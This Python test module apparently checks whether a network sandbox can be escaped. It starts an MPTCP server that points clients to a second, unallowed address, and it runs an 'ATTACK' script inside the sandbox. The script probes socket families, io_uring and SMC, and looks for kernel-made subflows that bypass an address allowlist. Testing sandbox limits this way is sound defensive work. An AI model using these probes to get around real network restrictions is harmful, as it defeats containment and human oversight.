"""A server beside a machine that leads its clients elsewhere, and an attack that goes there by the kernel.

The server has a second address, and tells its clients of it by MPTCP. Their kernel connects to it: that connection has
no owner until it is established, like those of SMC, which needs a module that few kernels have.
"""

from __future__ import annotations

import errno
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any, Final

ALLOWED: Final = "198.51.100.1:9000"  # the server; its second address is 10.1.1.1
_SERVER: Final = """
import socket
server = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
server.bind(("0.0.0.0", 9000))
server.listen()
while True:
    client = server.accept()[0]
    while client.recv(1):
        client.send(b"x")
    client.close()
"""
_SETUP: Final = f"""
set -e
ip netns add far
ip link add card type veth peer name far netns far
ip address add 198.51.100.9/24 dev card
ip link set card up
ip route add 10.1.1.0/24 dev card
ip -n far link set lo up
ip -n far link set far up
ip -n far address add 198.51.100.1/24 dev far
ip -n far address add 10.1.1.1/24 dev far
ip mptcp limits set add_addr_accepted 2 subflows 4
ip netns exec far ip mptcp limits set subflows 4
ip netns exec far ip mptcp endpoint add 10.1.1.1 dev far signal
cat >/run/far.py <<'END'
{_SERVER}
END
systemd-run --quiet --unit far ip netns exec far python3 /run/far.py
"""
# Prints what the attack reached, or writes it to the file of the first argument. Then serves on the port of the second.
ATTACK: Final = """
import ctypes, http.server, json, os, socket, sys, time
def error(family, kind=socket.SOCK_DGRAM, protocol=0):
    try:
        socket.socket(family, kind, protocol).close()
        return 0
    except OSError as refused:
        return refused.errno
libc = ctypes.CDLL(None, use_errno=True)
found = {"families": [number for number in range(64) if error(number) != 97]}
found["ring"] = 0 if libc.syscall(425, 1, None) >= 0 else ctypes.get_errno()
found["smc"] = error(socket.AF_INET, socket.SOCK_STREAM, 256)
with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as client:
    client.settimeout(5)
    client.connect(("198.51.100.1", 9000))
    for _ in range(10):
        client.send(b"x")
        client.recv(1)
        time.sleep(0.05)
    # Established connections of this network to 10.1.1.1, port 9000.
    rows = [line.split() for line in open("/proc/net/tcp")]
    found["paths"] = sum(row[2:4] == ["0101010A:2328", "01"] for row in rows)
said = json.dumps(found)
if len(sys.argv) > 1:
    open(sys.argv[1], "w").write(said)
else:
    print(said)
if len(sys.argv) > 2:
    http.server.test(http.server.SimpleHTTPRequestHandler, port=int(sys.argv[2]), bind="127.0.0.1")
"""


@contextmanager
def led_elsewhere(root: Callable[[str], str]) -> Iterator[None]:
    """Run the server in a network of its own on a machine, whose shell of root is given."""
    root(_SETUP)
    try:
        yield
    finally:
        root("systemctl stop far; ip netns delete far; ip link delete card 2>/dev/null || true")


def is_open(found: dict[str, Any]) -> bool:
    """Whether an attack succeeded in all that this kernel has."""
    return {1, 2, 10, 16} < set(found["families"]) and found["ring"] != errno.EPERM and found["paths"] > 0


def is_limited(found: dict[str, Any]) -> bool:
    """Whether it succeeded in nothing."""
    return (found["families"], found["ring"], found["paths"]) == ([1, 2, 10, 16], errno.EPERM, 0)
